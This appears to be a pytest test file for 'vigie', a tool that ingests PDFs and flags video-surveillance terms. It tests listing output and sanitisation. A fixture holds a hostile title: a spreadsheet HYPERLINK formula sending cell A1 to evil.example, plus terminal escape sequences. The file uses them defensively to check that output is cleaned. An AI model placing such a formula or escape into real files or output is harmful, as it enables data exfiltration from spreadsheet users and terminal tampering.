"""`vigie ingest` adds local files; `vigie documents` and `vigie hits` list them in three formats."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.crawl.pdfs import make_pdf


@pytest.fixture
def ingested(cli, tmp_path):
    """A PDF obtained by a records request, ingested into a new local source and analysed."""
    pdf = tmp_path / "reponse-cada.pdf"
    pdf.write_bytes(
        make_pdf(
            "Convention de mise à disposition.", "La commune installe un système de vidéoprotection\x1b[31m rouge."
        )
    )
    added = cli(
        "ingest",
        str(pdf),
        "--source",
        "cada-valmont",
        "--title",
        "Réponse CADA",
        "--date",
        "2026-02-03",
        "--kind",
        "report",
    )
    analysed = cli("analyze")
    return added, analysed


def test_ingest_creates_a_local_source_and_a_pending_document(ingested):
    added, analysed = ingested
    assert "Created local source cada-valmont" in added.output
    assert "Analysed 1 document(s), 2 page(s): 1 new hit(s)" in analysed.output


def test_ingesting_the_same_file_again_changes_nothing(ingested, cli, tmp_path):
    again = cli("ingest", str(tmp_path / "reponse-cada.pdf"), "--source", "cada-valmont")
    assert "already stored, unchanged" in again.output


def test_documents_as_jsonl_carry_the_metadata(ingested, cli):
    row = json.loads(cli("documents", "--format", "jsonl").output.splitlines()[0])
    assert {k: row[k] for k in ("source", "title", "kind", "meeting_date", "status")} == {
        "source": "cada-valmont",
        "title": "Réponse CADA",
        "kind": "report",
        "meeting_date": "2026-02-03",
        "status": "analysed",
    }
    assert row["url"].startswith("file://")


def test_hits_as_jsonl_carry_the_evidence(ingested, cli):
    row = json.loads(cli("hits", "--format", "jsonl").output.splitlines()[0])
    assert (row["source"], row["document_title"], row["category"], row["page"]) == (
        "cada-valmont",
        "Réponse CADA",
        "video_surveillance",
        2,
    )
    assert row["matched"].lower() == "vidéoprotection" and "système de vidéoprotection" in row["snippet"]


def test_hits_as_csv_have_a_header_and_one_row_per_hit(ingested, cli):
    rows = list(csv.DictReader(io.StringIO(cli("hits", "--format", "csv").output)))
    assert len(rows) == 1 and rows[0]["category"] == "video_surveillance"


def test_the_table_never_prints_control_characters_from_a_document(ingested, cli):
    output = cli("hits").output
    assert "video_surveillance" in output and "\x1b" not in output


def test_a_source_filter_selects_its_rows(ingested, cli):
    assert cli("hits", "--source", "other", "--format", "jsonl").output == ""


def test_a_hit_a_newer_lexicon_no_longer_finds_is_listed_only_on_request(ingested, cli, db):
    from storage.models import Hit

    with db.session() as session:
        hit = session.query(Hit).one()
        hit.details = {**hit.details, "not_found_by": "9.9.9"}
    assert cli("hits", "--format", "jsonl").output == ""
    row = json.loads(cli("hits", "--all", "--format", "jsonl").output)
    assert row["retracted_by"] == "9.9.9"


# A title as a hostile site could write it: a spreadsheet formula, a terminal escape that renames
# the terminal's window, and a C1 control (CSI) that JSON leaves as it is.
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Ouvrir")\x1b]0;pwned\x07\x9b31m'


@pytest.fixture
def hostile_title(db):
    """A document stored with a hostile title (as rows stored before titles were cleaned have)."""
    from storage.models import Document, Source

    with db.session() as session:
        session.add(Source(id="hostile", name="Hostile", country="FR", platform="html", url="https://evil.example/"))
        session.flush()
        session.add(
            Document(
                source_id="hostile", url="https://evil.example/a.pdf", title=HOSTILE_TITLE, status="analysed", extra={}
            )
        )


@pytest.mark.parametrize("fmt", ["table", "jsonl", "csv"])
def test_no_output_format_lets_a_control_character_through(hostile_title, cli, fmt):
    output = cli("documents", "--format", fmt).output
    assert "HYPERLINK" in output
    assert not any(char in output for char in "\x1b\x07\x9b")


def test_a_csv_cell_never_starts_a_formula(hostile_title, cli):
    [row] = csv.DictReader(io.StringIO(cli("documents", "--format", "csv").output))
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Ouvrir")]0;pwned31m'


def test_ingest_removes_control_characters_from_a_file_name(cli, tmp_path):
    pdf = tmp_path / "délibération\x1b[8m.pdf"
    pdf.write_bytes(make_pdf("Vidéoprotection."))
    cli("ingest", str(pdf), "--source", "cada-valmont")
    [row] = [json.loads(line) for line in cli("documents", "--format", "jsonl").output.splitlines()]
    assert row["title"] == "délibération[8m.pdf"
